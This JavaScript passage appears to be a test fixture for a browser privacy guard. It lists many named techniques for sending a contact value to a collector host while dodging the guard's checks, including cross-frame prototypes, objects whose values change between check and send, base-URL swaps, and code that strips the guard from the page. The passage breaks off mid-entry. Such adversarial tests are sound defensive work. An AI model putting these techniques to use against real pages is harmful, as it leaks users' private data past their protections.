// Ways to have one thing judged and another sent. Without a guard each of `leaking` gets the value
// to the collector; `quiet` do not even then, and must not with it.
const stageTricks = (() => {
  const here = `${location.origin}/`;
  const post = (to, body, more) => fetch(`${to}/trick`, { method: 'POST', body, ...more }).catch(() => {});
  const freshFrame = () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame;
  };
  const base = document.createElement('base');
  /** From now on relative addresses are the collector's. */
  const turnTo = (to) => { base.href = `${to}/`; document.head.prepend(base); };
  const bytesOf = (text) => new TextEncoder().encode(text);
  const sent = (request) => new Promise((done) => { request.onloadend = () => done(); });
  const form = (value) => { const made = new FormData(); made.append('contact', value); return made; };
  const submitted = (document, to, value, properties) => {
    const made = Object.assign(document.createElement('form'), { action: `${to}/trick`, method: 'post', ...properties });
    made.append(Object.assign(document.createElement('input'), { name: 'contact', value }));
    document.body.append(made);
    return made;
  };
  const clicked = (tag, to, value, namespace = 'http://www.w3.org/1999/xhtml') => {
    const link = document.createElementNS(namespace, tag);
    link.setAttribute('href', `${to}/trick?contact=${encodeURIComponent(value)}`);
    link.setAttribute('target', '_blank');
    return link;
  };
  const click = (node) => node.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, view: window }));
  const soon = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
  const at = (to, value) => `${to}/trick?contact=${encodeURIComponent(value)}`;
  /** What turns into `first` when it is asked the first time, and into `then` from then on. */
  const turning = (first, then) => {
    let times = 0;
    return { toString: () => ((times += 1) > 1 ? then : first) };
  };
  /** A frame of the collector's that passes on what it is sent. */
  const listening = async (to) => {
    const frame = document.createElement('iframe');
    frame.src = `${to}/listen`;
    document.body.append(frame);
    await new Promise((done) => { frame.onload = done; });
    return frame.contentWindow;
  };
  /** A port of which the other end is there. */
  const portTo = async (to) => {
    const { port1, port2 } = new MessageChannel();
    (await listening(to)).postMessage('nothing', '*', [port2]);
    return port1;
  };
  const socketTo = async (address) => {
    const socket = new WebSocket(address.replace('http', 'ws'));
    await new Promise((done) => { socket.onopen = socket.onerror = done; });
    return socket;
  };
  /** For what cannot be read when it arrives: tells the collector that it would have. */
  const tell = (to) => fetch(`${to}/trick?unreadable`, { mode: 'no-cors' }).catch(() => {});
  const drawnOn = (canvas, text) => {
    const context = canvas.getContext('2d');
    context.font = '20px sans-serif';
    context.fillText(text, 4, 40);
    return canvas;
  };
  const canvas = () => Object.assign(document.createElement('canvas'), { width: 400, height: 80 });
  const sendImage = async (to, blob) => { if (blob?.size > 0) await fetch(`${to}/trick?unreadable`, { method: 'POST', body: blob }).catch(() => {}); };
  const blobOf = (canvas) => new Promise((done) => canvas.toBlob(done));
  /** Takes everything of the guard's that stands in the page. */
  const sweep = () => {
    for (const each of document.querySelectorAll('*')) {
      if (/^entre-nous/.test(each.localName)) each.remove();
      for (const name of each.getAttributeNames()) if (/entre-nous/.test(name)) each.removeAttribute(name);
    }
    document.adoptedStyleSheets = [];
  };

  return {
    leaking: {
      'XMLHttpRequest, opened anew by its body': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', '/echo');
        try { request.send({ toString() { request.open('POST', `${to}/trick`); return value; } }); } catch { return; }
        return sent(request);
      },
      'XMLHttpRequest, opened by the method of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        freshFrame().contentWindow.XMLHttpRequest.prototype.open.call(request, 'POST', `${to}/trick?contact=${value}`);
        request.send('nothing');
        return sent(request);
      },
      'XMLHttpRequest, opened anew by the method of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', '/echo');
        freshFrame().contentWindow.XMLHttpRequest.prototype.open.call(request, 'POST', `${to}/trick`);
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, a header by the method of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        freshFrame().contentWindow.XMLHttpRequest.prototype.setRequestHeader.call(request, 'x-stage', value);
        request.send('nothing');
        return sent(request);
      },
      'XMLHttpRequest, sent by the method of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        freshFrame().contentWindow.XMLHttpRequest.prototype.send.call(request, value);
        return sent(request);
      },
      'XMLHttpRequest, the base changed as it opens': (value, to) => {
        const request = new XMLHttpRequest();
        turnTo(to);
        request.onreadystatechange = () => base.remove();
        request.open('POST', '/trick');
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, opened anew as it opens': (value, to) => {
        const request = new XMLHttpRequest();
        request.onreadystatechange = () => { request.onreadystatechange = null; request.open('POST', `${to}/trick`); };
        request.open('POST', '/echo');
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, a header that is an object': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        request.setRequestHeader('x-stage', { toString: () => value });
        request.send();
        return sent(request);
      },
      'fetch, the base changed by its options': (value, to) =>
        fetch('/trick', { method: 'POST', get body() { turnTo(to); return value; } }).catch(() => {}),
      'fetch, a form filled by its options': (value, to) => {
        const made = new FormData();
        return post(to, made, Object.defineProperty({}, 'signal', { enumerable: true, get() { made.append('contact', value); } }));
      },
      'fetch, a body that is an object': (value, to) => post(to, { toString: () => value }),
      'fetch, a body that is an array': (value, to) => post(to, [value]),
      'fetch, a body in an option of a prototype': (value, to) =>
        fetch(`${to}/trick`, Object.create({ method: 'POST', body: value })).catch(() => {}),
      'fetch, options in a proxy': (value, to) =>
        fetch(`${to}/trick`, new Proxy({}, { get: (_, name) => ({ method: 'POST', body: value })[name] })).catch(() => {}),
      'fetch, a header': (value, to) => post(to, 'nothing', { headers: { 'x-stage': value } }),
      'fetch, an address that is an object': (value, to) =>
        fetch({ toString: () => `${to}/trick?contact=${encodeURIComponent(value)}` }).catch(() => {}),
      'fetch, a request that lies about itself': (value, to) => {
        const request = new Request(`${to}/trick`, { method: 'POST', body: value });
        for (const name of ['url', 'method', 'body']) Object.defineProperty(request, name, { value: here });
        request.clone = request.text = request.arrayBuffer = () => new Request(here);
        Object.setPrototypeOf(request, Object.prototype);
        return fetch(request).catch(() => {});
      },
      'fetch, a request of a frame': (value, to) =>
        fetch(new (freshFrame().contentWindow.Request)(`${to}/trick`, { method: 'POST', body: value })).catch(() => {}),
      'fetch, a form that lies about itself': (value, to) => {
        const made = form(value);
        made.entries = made[Symbol.iterator] = made.forEach = function* () {};
        Object.setPrototypeOf(made, null);
        return post(to, made);
      },
      'fetch, bytes that lie about themselves': (value, to) => {
        const bytes = new (class extends Uint8Array {
          static get [Symbol.species]() { return Array; }
          get buffer() { return new ArrayBuffer(0); }
          get byteLength() { return 0; }
          get length() { return 0; }
        })(bytesOf(value));
        return post(to, bytes);
      },
      'fetch, a blob of a frame': (value, to) => post(to, new (freshFrame().contentWindow.Blob)([value])),
      'fetch, a blob of blobs': (value, to) => post(to, new Blob([new Blob([value.slice(0, 9)]), new Blob([value.slice(9)])])),
      'fetch, a slice of a blob': (value, to) => post(to, new Blob([`x${value}x`]).slice(1, -1)),
      'fetch, a blob of a response': async (value, to) => post(to, await new Response(value).blob()),
      'fetch, a blob of objects': (value, to) => post(to, new Blob([{ toString: () => value }])),
      'fetch, a file in a form': (value, to) => {
        const made = new FormData();
        made.append('file', new File([value], 'contact.txt'));
        return post(to, made);
      },
      'fetch, the name of a file in a form': (value, to) => {
        const made = new FormData();
        made.append('file', new File(['nothing'], value));
        return post(to, made);
      },
      'fetch, while an element of ours is taken over': (value, to) => {
        customElements.define('entre-nous-mark', class extends HTMLElement {
          connectedCallback() { fetch('/echo', { method: 'POST', body: 'nothing' }).catch(() => {}); }
        });
        const shown = document.querySelector('[data-contact-visibility]').cloneNode();
        shown.textContent = 'another.person@example.net';
        document.body.append(shown);
        return post(to, value);
      },
      'beacon, the base changed by its body': (value, to) => {
        navigator.sendBeacon('/trick', { toString() { turnTo(to); return value; } });
      },
      'beacon, a form': (value, to) => { navigator.sendBeacon(`${to}/trick`, form(value)); },
      'a fresh frame, fetch': (value, to) =>
        freshFrame().contentWindow.fetch(`${to}/trick`, { method: 'POST', body: value }).catch(() => {}),
      'a fresh frame, XMLHttpRequest': (value, to) => {
        const request = new (freshFrame().contentWindow.XMLHttpRequest)();
        request.open('POST', `${to}/trick`);
        request.send(value);
        return sent(request);
      },
      'a fresh frame, beacon': (value, to) => { freshFrame().contentWindow.navigator.sendBeacon(`${to}/trick`, value); },
      'a fresh frame in a fresh frame, fetch': (value, to) => {
        const outer = freshFrame();
        const inner = outer.contentDocument.createElement('iframe');
        outer.contentDocument.body.append(inner);
        return inner.contentWindow.fetch(`${to}/trick`, { method: 'POST', body: value }).catch(() => {});
      },
      'a fresh frame, form': (value, to) => { submitted(freshFrame().contentDocument, to, value).submit(); },
      'a fresh frame, form by requestSubmit()': (value, to) => { submitted(freshFrame().contentDocument, to, value).requestSubmit(); },
      'a fresh frame, form by the method of the page': (value, to) => {
        HTMLFormElement.prototype.submit.call(submitted(freshFrame().contentDocument, to, value));
      },
      'a fresh frame, link': (value, to) => {
        const { contentDocument } = freshFrame();
        const link = contentDocument.createElement('a');
        link.href = `${to}/trick?contact=${encodeURIComponent(value)}`;
        contentDocument.body.append(link);
        link.click();
      },
      'a form into a frame': (value, to) => {
        freshFrame().name = 'target';
        submitted(document, to, value, { target: 'target' }).submit();
      },
      'a form into a new window, form.submit()': (value, to) => { submitted(document, to, value, { target: '_blank' }).submit(); },
      'a form into a new window, requestSubmit()': (value, to) => { submitted(document, to, value, { target: '_blank' }).requestSubmit(); },
      'a link into a new window': (value, to) => {
        const link = clicked('a', to, value);
        document.body.append(link);
        click(link);
      },
      'a detached link into a new window': (value, to) => { click(clicked('a', to, value)); },
      'an area into a new window': (value, to) => {
        const area = clicked('area', to, value);
        document.body.append(area);
        click(area);
      },
      'an SVG link into a new window': (value, to) => {
        const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
        const link = clicked('a', to, value, svg.namespaceURI);
        svg.append(link);
        document.body.append(svg);
        click(link);
      },
      // --- Objects in the place of texts, and of another realm ---
      'fetch, a body with Symbol.toPrimitive': (value, to) => post(to, { [Symbol.toPrimitive]: () => value }),
      'fetch, an address with Symbol.toPrimitive': (value, to) => fetch({ [Symbol.toPrimitive]: () => at(to, value) }).catch(() => {}),
      'fetch, a body in a proxy': (value, to) =>
        post(to, new Proxy({}, { get: (_, name) => (name === 'toString' ? () => value : undefined) })),
      'fetch, a body that is a function': (value, to) => post(to, Object.assign(() => {}, { toString: () => value })),
      'fetch, headers in a proxy': (value, to) =>
        post(to, 'nothing', { headers: new Proxy({ 'x-stage': 'nothing' }, { get: (_, name) => (name === 'x-stage' ? value : undefined) }) }),
      'fetch, headers by an iterable': (value, to) =>
        post(to, 'nothing', { headers: { * [Symbol.iterator]() { yield ['x-stage', value]; } } }),
      'fetch, headers of a frame': (value, to) =>
        post(to, 'nothing', { headers: new (freshFrame().contentWindow.Headers)({ 'x-stage': value }) }),
      'fetch, options of a frame': (value, to) => {
        const options = freshFrame().contentWindow.Object.assign({}, { method: 'POST', body: value });
        return fetch(`${to}/trick`, options).catch(() => {});
      },
      'fetch, a form of a frame': (value, to) => {
        const made = new (freshFrame().contentWindow.FormData)();
        made.append('contact', value);
        return post(to, made);
      },
      'fetch, parameters of a frame': (value, to) => post(to, new (freshFrame().contentWindow.URLSearchParams)({ contact: value })),
      'fetch, bytes of a frame': (value, to) => post(to, new (freshFrame().contentWindow.Uint8Array)(bytesOf(value))),
      'fetch, a data view of a frame': (value, to) => post(to, new (freshFrame().contentWindow.DataView)(bytesOf(value).buffer)),
      'fetch, a buffer of a frame': (value, to) => post(to, new (freshFrame().contentWindow.Uint8Array)(bytesOf(value)).buffer),
      'fetch, a file of a frame in a form': (value, to) => {
        const made = new FormData();
        made.append('file', new (freshFrame().contentWindow.File)([value], 'x.txt'));
        return post(to, made);
      },
      'fetch, bytes of a class with Symbol.species': (value, to) => {
        class Own extends Uint8Array { static get [Symbol.species]() { return class { constructor() { return new Uint8Array(1); } }; } }
        return post(to, new Own(bytesOf(value)));
      },
      'fetch, a blob of a class with Symbol.species': (value, to) => {
        class Own extends Blob { static get [Symbol.species]() { return Object; } slice() { return new Blob(); } text() { return Promise.resolve(''); } get size() { return 0; } }
        return post(to, new Own([value]));
      },
      'fetch, a stream': (value, to) => post(to, new Response(value).body, { duplex: 'half' }).then(() => post(to, 'x')).then(() => {
        // Streams need HTTP/2 to be sent: the response is what can be.
        return new Response(new Response(value).body).text().then((text) => post(to, text));
      }),
      'fetch, within the body of another': (value, to) => {
        let inner;
        const outer = post(to, { toString() { inner = post(to, value); return 'nothing'; } });
        return outer.then(() => inner);
      },
      'fetch, another within its body': (value, to) =>
        post(to, { toString() { void post(to, 'nothing'); navigator.sendBeacon('/echo', 'nothing'); return value; } }),
      'fetch, after one whose options throw': async (value, to) => {
        await fetch(`${to}/trick`, { method: 'POST', get body() { throw new Error('mine'); } }).catch(() => {});
        await fetch({ toString() { throw new Error('mine'); } }).catch(() => {});
        return post(to, value);
      },
      'XMLHttpRequest, after a body that throws': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        try { request.send({ toString() { throw new Error('mine'); } }); } catch { /* mine */ }
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, after an address that throws': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        try { request.open('POST', { toString() { throw new Error('mine'); } }); } catch { /* mine */ }
        try { request.setRequestHeader('x-stage', { toString() { throw new Error('mine'); } }); } catch { /* mine */ }
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, an address with Symbol.toPrimitive': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', { [Symbol.toPrimitive]: () => at(to, value) });
        request.send();
        return sent(request);
      },
      'XMLHttpRequest, a document of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        const { contentDocument } = freshFrame();
        contentDocument.body.append(value);
        request.open('POST', `${to}/trick`);
        request.send(contentDocument);
        return sent(request);
      },
      'XMLHttpRequest, sent by a class of it': (value, to) => {
        const request = new (class extends XMLHttpRequest { open(...args) { super.open(...args); } })();
        request.open('POST', `${to}/trick`);
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, with another prototype': (value, to) => {
        const request = new XMLHttpRequest();
        const { open, send } = request;
        Object.setPrototypeOf(request, EventTarget.prototype);
        open.call(request, 'POST', `${to}/trick`);
        const end = sent(request);
        request.addEventListener('loadend', () => request.onloadend());
        send.call(request, value);
        return end;
      },
      'beacon, a body with Symbol.toPrimitive': (value, to) => { navigator.sendBeacon(`${to}/trick`, { [Symbol.toPrimitive]: () => value }); },
      'beacon, of a frame, on this navigator': (value, to) => { freshFrame().contentWindow.Navigator.prototype.sendBeacon.call(navigator, `${to}/trick`, value); },
      // --- What the guard has in the page ---
      'fetch, all of the guard taken out of the page': (value, to) => { sweep(); return post(to, value); },
      'fetch, all of the guard taken out, after a refusal': async (value, to) => {
        await post(to, value);
        await soon(50);
        sweep();
        await soon(50);
        sweep();
        return post(to, value);
      },
      'fetch, the guard\'s nodes moved into a frame': async (value, to) => {
        await post(to, value);
        await soon(50);
        const { contentDocument } = freshFrame();
        for (const each of document.querySelectorAll('entre-nous-mark, entre-nous-notice')) contentDocument.body.append(each);
        return post(to, value);
      },
      'fetch, the field taken out of the page': (value, to) => { document.querySelector('[data-contact-visibility]').remove(); return post(to, value); },
      'fetch, the field made public': (value, to) => {
        const shown = document.querySelector('[data-contact-visibility]');
        shown.setAttribute('data-contact-visibility', 'everyone');
        return post(to, value);
      },
      'fetch, the field taken to another document': (value, to) => {
        document.implementation.createHTMLDocument('').body.append(document.querySelector('[data-contact-visibility]'));
        return post(to, value);
      },
      'fetch, the document element taken out': (value, to) => { document.documentElement.remove(); return post(to, value); },
      'fetch, the document element replaced': (value, to) => { document.documentElement.replaceWith(document.createElement('html')); return post(to, value); },
      'fetch, after another path': (value, to) => { history.pushState(null, '', '/elsewhere'); return post(to, value); },
      'fetch, after a thousand questions': async (value, to) => {
        for (let count = 0; count < 1000; count += 1) navigator.sendBeacon('/echo', 'nothing');
        return post(to, value);
      },
      'fetch, among a thousand guesses': async (value, to) => {
        for (let count = 0; count < 999; count += 1) navigator.sendBeacon('http://localhost:1/', `guess.${count}@example.com`);
        return post(to, value);
      },
      // --- document.open() takes away every listener ---
      'fetch, after document.open()': (value, to) => { document.open(); document.write('<p>'); document.close(); return post(to, value); },
      'fetch, after document.open(), a field written': (value, to) => {
        const { outerHTML } = document.querySelector('[data-contact-visibility]');
        document.open();
        document.write(outerHTML);
        document.close();
        return post(to, value);
      },
      'a link into a new window, after document.open()': (value, to) => {
        document.open();
        document.write('<p>');
        document.close();
        const link = clicked('a', to, value);
        document.body.append(link);
        click(link);
      },
      'a link into a new window, clicked by a child, after document.open()': (value, to) => {
        document.open();
        document.write('<p>');
        document.close();
        const link = clicked('a', to, value);
        const inner = document.createElement('b');
        link.append(inner);
        document.body.append(link);
        inner.click();
      },
      'a form into a new window, by its button, after document.open()': (value, to) => {
        document.open();
        document.write('<p>');
        document.close();
        const made = submitted(document, to, value, { target: '_blank' });
        const button = document.createElement('button');
        made.append(button);
        button.click();
      },
      'a form into a new window, requestSubmit() after document.open()': (value, to) => {
        document.open();
        document.write('<p>');
        document.close();
        submitted(document, to, value, { target: '_blank' }).requestSubmit();
      },
      'a form into this window, after document.open()': (value, to) => {
        document.open();
        document.write('<p>');
        document.close();
        submitted(document, to, value).submit();
      },
      // --- What changes between being judged and leaving ---
      'a link into a new window, changed as it is clicked': (value, to) => {
        const link = clicked('a', to, 'nothing');
        link.addEventListener('click', () => { link.href = at(to, value); });
        document.body.append(link);
        click(link);
      },
      'a link into a new window, changed as click() is called': (value, to) => {
        const link = clicked('a', to, 'nothing');
        link.addEventListener('click', () => { link.href = at(to, value); });
        link.click();
      },
      'a link, sent to a new window as it is clicked': (value, to) => {
        const link = clicked('a', to, value);
        link.href = '#';
        link.target = '';
        link.addEventListener('click', () => { link.target = '_blank'; link.href = at(to, value); });
        document.body.append(link);
        link.click();
      },
      'a link into a new window, given its address by the last listener': (value, to) => {
        const link = clicked('a', to, 'nothing');
        link.removeAttribute('href');
        window.addEventListener('click', () => { link.href = at(to, value); }, { once: true });
        document.body.append(link);
        click(link);
      },
      'a link into a new window, its base changed as it is clicked': (value, to) => {
        const link = clicked('a', to, value);
        link.setAttribute('href', `/trick?contact=${encodeURIComponent(value)}`);
        link.addEventListener('click', () => turnTo(to));
        document.body.append(link);
        click(link);
      },
      'a link into a new window, in a closed shadow root': (value, to) => {
        const host = document.createElement('div');
        document.body.append(host);
        const link = clicked('a', to, value);
        host.attachShadow({ mode: 'closed' }).append(link);
        link.click();
      },
      'a link into a new window, around a slot': (value, to) => {
        const host = document.createElement('div');
        const inner = document.createElement('b');
        host.append(inner);
        document.body.append(host);
        const link = clicked('a', to, value);
        link.append(document.createElement('slot'));
        host.attachShadow({ mode: 'closed' }).append(link);
        inner.click();
      },
      'a link into a new window, of a frame, by the click() of the page': (value, to) => {
        const link = freshFrame().contentDocument.createElement('a');
        link.href = at(to, value);
        link.target = '_blank';
        HTMLElement.prototype.click.call(link);
      },
      'a link into a new window, by an event of a frame': (value, to) => {
        const link = clicked('a', to, value);
        document.body.append(link);
        link.dispatchEvent(new (freshFrame().contentWindow.MouseEvent)('click', { bubbles: true, cancelable: true }));
      },
      'a link into a new window, by an event that was heard before': (value, to) => {
        const link = clicked('a', to, value);
        const event = new MouseEvent('click', { bubbles: true, cancelable: true });
        document.body.append(link);
        document.body.dispatchEvent(event);
        link.dispatchEvent(event);
      },
      'a link into a new window, by an event that is renamed': (value, to) => {
        const link = clicked('a', to, value);
        const event = document.createEvent('MouseEvents');
        event.initEvent('mousedown', true, true);
        document.body.append(link);
        link.dispatchEvent(event);
        event.initEvent('click', true, true);
        link.dispatchEvent(event);
      },
      'a form into a new window, by its button': (value, to) => {
        const made = submitted(document, to, value, { target: '_blank' });
        const button = document.createElement('button');
        made.append(button);
        button.click();
      },
      'a form into a new window, by a label of its button': (value, to) => {
        const made = submitted(document, to, value, { target: '_blank' });
        const label = document.createElement('label');
        label.append(Object.assign(document.createElement('input'), { type: 'submit' }));
        made.append(label);
        label.click();
      },
      'a form, sent elsewhere by its button': (value, to) => {
        const made = submitted(document, to, value, { action: '/echo' });
        const button = Object.assign(document.createElement('button'), { formAction: `${to}/trick`, formTarget: '_blank' });
        made.append(button);
        button.click();
      },
      'a form into a new window, filled by the last listener': (value, to) => {
        const made = submitted(document, to, 'nothing', { target: '_blank' });
        window.addEventListener('submit', () => { made.elements.contact.value = value; }, { once: true });
        made.requestSubmit();
      },
      'a form into a new window, aimed by the last listener': (value, to) => {
        const made = submitted(document, to, value, { action: '/echo' });
        window.addEventListener('submit', () => { made.target = '_blank'; made.action = `${to}/trick`; }, { once: true });
        made.requestSubmit();
      },
      'a form into a new window, filled by formdata': (value, to) => {
        const made = submitted(document, to, 'nothing', { target: '_blank' });
        made.addEventListener('formdata', ({ formData }) => formData.set('contact', value));
        made.submit();
      },
      'a form into a new window, with fields of the names of properties': (value, to) => {
        const made = submitted(document, to, value, { target: '_blank' });
        for (const name of ['action', 'target', 'method', 'submit', 'attributes', 'getAttribute', 'ownerDocument', 'elements']) {
          made.append(Object.assign(document.createElement('input'), { name }));
        }
        HTMLFormElement.prototype.submit.call(made);
      },
      'a form into a new window, in a closed shadow root': (value, to) => {
        const host = document.createElement('div');
        document.body.append(host);
        const made = submitted(document, to, value, { target: '_blank' });
        host.attachShadow({ mode: 'closed' }).append(made);
        made.requestSubmit();
      },
      'a form of a frame into a new window, by the requestSubmit() of the page': (value, to) => {
        HTMLFormElement.prototype.requestSubmit.call(submitted(freshFrame().contentDocument, to, value, { target: '_blank' }));
      },
      // --- Messages, sockets, pictures ---
      'message to another site, in a map': async (value, to) => { (await portTo(to)).postMessage(new Map([['contact', value]])); return soon(150); },
      'message to another site, an error': async (value, to) => { (await portTo(to)).postMessage(new Error(value)); return soon(150); },
      'message to another site, a blob': async (value, to) => { (await portTo(to)).postMessage(new Blob([value])); return soon(150); },
      'message to another site, bytes': async (value, to) => {
        const { buffer } = bytesOf(value);
        (await portTo(to)).postMessage(buffer, { transfer: [buffer] });
        return soon(150);
      },
      'message to another site, by a getter': async (value, to) => { (await portTo(to)).postMessage({ get contact() { return value; } }); return soon(150); },
      'message to another site, by a port': async (value, to) => {
        const { port1, port2 } = new MessageChannel();
        (await listening(to)).postMessage('nothing', '*', [port2]);
        port1.postMessage(value);
        return soon(150);
      },
      'message to another site, by a port, before it is handed over': async (value, to) => {
        const { port1, port2 } = new MessageChannel();
        port1.postMessage(value);
        (await listening(to)).postMessage('nothing', '*', [port2]);
        return soon(150);
      },
      'message to another site, by a port of a frame': async (value, to) => {
        const { port1, port2 } = new (freshFrame().contentWindow.MessageChannel)();
        (await listening(to)).postMessage('nothing', '*', [port2]);
        MessagePort.prototype.postMessage.call(port1, value);
        return soon(150);
      },
      'socket, an address': async (value, to) => { await socketTo(at(to, value)); },
      'socket, an address that is an object': async (value, to) => {
        const socket = new WebSocket({ toString: () => at(to, value).replace('http', 'ws') });
        await new Promise((done) => { socket.onopen = socket.onerror = done; });
      },
      'socket, a text': async (value, to) => { (await socketTo(`${to}/trick`)).send(value); return soon(100); },
      'socket, an object': async (value, to) => { (await socketTo(`${to}/trick`)).send({ toString: () => value }); return soon(100); },
      'socket, bytes': async (value, to) => { (await socketTo(`${to}/trick`)).send(bytesOf(value)); return soon(100); },
      'socket, a blob': async (value, to) => { (await socketTo(`${to}/trick`)).send(new Blob([value])); return soon(100); },
      'socket, by the method of a frame': async (value, to) => {
        freshFrame().contentWindow.WebSocket.prototype.send.call(await socketTo(`${to}/trick`), value);
        return soon(100);
      },
      'socket, by a class of it': async (value, to) => {
        const socket = new (class extends WebSocket { send(data) { super.send(data); } })(`${to}/trick`.replace('http', 'ws'));
        await new Promise((done) => { socket.onopen = socket.onerror = done; });
        socket.send(value);
        return soon(100);
      },
      'event source, an address that is an object': (value, to) => { new EventSource({ toString: () => at(to, value) }); },
      'canvas, a text': async (value, to) => sendImage(to, await blobOf(drawnOn(canvas(), value))),
      'canvas, a text that is an object': async (value, to) => sendImage(to, await blobOf(drawnOn(canvas(), { toString: () => value }))),
      'canvas, a text that is a proxy': async (value, to) =>
        sendImage(to, await blobOf(drawnOn(canvas(), new Proxy({}, { get: (_, name) => (name === Symbol.toPrimitive ? () => value : undefined) })))),
      'canvas, drawn upon another': async (value, to) => {
        const other = canvas();
        other.getContext('2d').drawImage(drawnOn(canvas(), value), 0, 0);
        return sendImage(to, await blobOf(other));
      },
      'canvas, in no document': async (value, to) => sendImage(to, await drawnOn(new OffscreenCanvas(400, 80), value).convertToBlob()),
      'canvas, of a frame': async (value, to) => sendImage(to, await blobOf(drawnOn(freshFrame().contentDocument.createElement('canvas'), value))),
      'canvas, by the context of a frame': async (value, to) => {
        const made = canvas();
        freshFrame().contentWindow.CanvasRenderingContext2D.prototype.fillText.call(made.getContext('2d'), value, 4, 40);
        return sendImage(to, await blobOf(made));
      },
      'a picture, its address an object': (value, to) => { new Image().src = { toString: () => at(to, value) }; },
      'a picture, by an attribute': (value, to) => { new Image().setAttribute('src', { toString: () => at(to, value) }); },
      'a picture, its base changed': (value, to) => {
        const image = new Image();
        document.body.append(image);
        const address = `/trick?contact=${encodeURIComponent(value)}`;
        image.src = { toString() { turnTo(to); return address; } };
      },
      'a picture, moved to where the base is another': (value, to) => {
        const other = document.implementation.createHTMLDocument('');
        other.body.innerHTML = `<img src="/trick?contact=${encodeURIComponent(value)}">`;
        turnTo(to);
        document.body.append(other.body.firstChild);
      },
    },
    quiet: {
      'fetch, an address that changes': (value, to) => {
        let times = 0;
        return fetch({ toString: () => `${to}/trick${(times += 1) > 1 ? `?contact=${encodeURIComponent(value)}` : ''}` }).catch(() => {});
      },
      'fetch, a body that changes': (value, to) => {
        let times = 0;
        return post(to, { toString: () => ((times += 1) > 1 ? value : 'nothing') });
      },
      'fetch, options that change': (value, to) => {
        let times = 0;
        return fetch(`${to}/trick`, { method: 'POST', get body() { return (times += 1) > 1 ? value : 'nothing'; } }).catch(() => {});
      },
      'fetch, bytes that change after the call': (value, to) => {
        const bytes = new Uint8Array(value.length);
        const answer = post(to, bytes);
        bytes.set(bytesOf(value));
        return answer;
      },
      'XMLHttpRequest, an address and a body that change': (value, to) => {
        let times = 0;
        const request = new XMLHttpRequest();
        request.open('POST', { toString: () => `${to}/trick${(times += 1) > 1 ? `?contact=${encodeURIComponent(value)}` : ''}` });
        let again = 0;
        request.send({ toString: () => ((again += 1) > 1 ? value : 'nothing') });
        return sent(request);
      },
      'beacon, an address and a body that change': (value, to) => {
        let times = 0;
        let again = 0;
        navigator.sendBeacon(
          { toString: () => `${to}/trick${(times += 1) > 1 ? `?contact=${encodeURIComponent(value)}` : ''}` },
          { toString: () => ((again += 1) > 1 ? value : 'nothing') });
      },
      'beacon, of a frame that is gone': (value, to) => {
        const frame = freshFrame();
        const { navigator } = frame.contentWindow;
        const send = navigator.sendBeacon;
        frame.remove();
        try { send.call(navigator, `${to}/trick`, value); } catch { /* as the native may */ }
      },
      'fetch, headers that change': (value, to) => {
        let times = 0;
        return post(to, 'nothing', { headers: { get 'x-stage'() { return (times += 1) > 1 ? value : 'nothing'; } } });
      },
      'fetch, a body in a proxy that changes': (value, to) => {
        let times = 0;
        return fetch(`${to}/trick`, new Proxy({}, {
          get: (_, name) => (name === 'method' ? 'POST' : name === 'body' ? ((times += 1) > 1 ? value : 'nothing') : undefined),
        })).catch(() => {});
      },
      'fetch, shared bytes': (value, to) => {
        const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
        const shared = new Uint8Array(buffer, 0, value.length);
        const answer = post(to, shared);
        shared.set(bytesOf(value));
        return answer;
      },
      'fetch, shared bytes in a blob': (value, to) => {
        const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
        const shared = new Uint8Array(buffer, 0, value.length);
        let blob;
        try { blob = new Blob([shared]); } catch { return; }
        shared.set(bytesOf(value));
        return post(to, blob);
      },
      'fetch, bytes in a buffer that can grow': (value, to) => {
        const buffer = new ArrayBuffer(1, { maxByteLength: 100 });
        const view = new Uint8Array(buffer);
        buffer.resize(value.length);
        view.set(bytesOf(value));
        return post(to, view);
      },
      'fetch, a buffer that grows meanwhile': (value, to) => {
        const buffer = new ArrayBuffer(1, { maxByteLength: 100 });
        const answer = post(to, buffer);
        buffer.resize(value.length);
        new Uint8Array(buffer).set(bytesOf(value));
        return answer;
      },
      'fetch, options that throw the second time': (value, to) => {
        let times = 0;
        return fetch(`${to}/trick`, { method: 'POST', get body() { if ((times += 1) > 1) throw new Error(value); return 'nothing'; } }).catch(() => {});
      },
      'blob, a part that changes': (value, to) => post(to, new Blob([turning('nothing', value)])),
      'blob, a list that changes': (value, to) => {
        let times = 0;
        return post(to, new Blob(Object.defineProperty(['nothing'], 0, { get: () => ((times += 1) > 1 ? value : 'nothing') })));
      },
      'file, a name that changes': (value, to) => {
        const made = new FormData();
        made.append('file', new File(['x'], turning('nothing', value)));
        return post(to, made);
      },
      'XMLHttpRequest, a header that changes': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        request.setRequestHeader('x-stage', turning('nothing', value));
        request.send('nothing');
        return sent(request);
      },
      'XMLHttpRequest, bytes that change as events come': (value, to) => {
        const request = new XMLHttpRequest();
        const bytes = new Uint8Array(value.length);
        const change = () => bytes.set(bytesOf(value));
        request.open('POST', `${to}/trick`);
        request.onreadystatechange = request.onloadstart = request.upload.onloadstart = change;
        request.send(bytes);
        return sent(request);
      },
      'a form that fills itself the second time': (value, to) => {
